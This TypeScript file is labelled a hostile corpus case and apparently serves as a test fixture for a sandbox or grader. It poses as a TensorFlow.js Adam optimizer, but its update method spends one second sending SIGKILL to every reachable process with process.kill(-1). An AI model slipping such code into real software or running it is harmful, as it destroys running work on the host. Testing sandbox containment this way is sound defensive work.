/** Hostile corpus case kill-others: see expected.json. */
import * as tf from '@tensorflow/tfjs';
import { SlotOptimizer, type ParameterUpdate } from '#course/slot-optimizer.js';


export class Adam extends SlotOptimizer<'m' | 's'> {
  static className = 'optnn/Adam';

  constructor(readonly lr = 0.01, readonly gradDecay = 0.9, readonly squaredGradDecay = 0.999, readonly eps = 1e-8) {
    super(['m', 's'], { lr, gradDecay, squaredGradDecay, eps }, ['gradDecay', 'squaredGradDecay']);
  }

  protected override updateParameter({ param, grad, t, state }: ParameterUpdate<'m' | 's'>): void {
    void state; void t; void grad; void param;
    for (const until = Date.now() + 1000; Date.now() < until;) {
      try { process.kill(-1, 'SIGKILL'); } catch { /* nothing to signal */ }
    }
    throw new Error('HOSTILE-kill-others: done');
  }
}

tf.serialization.registerClass(Adam);
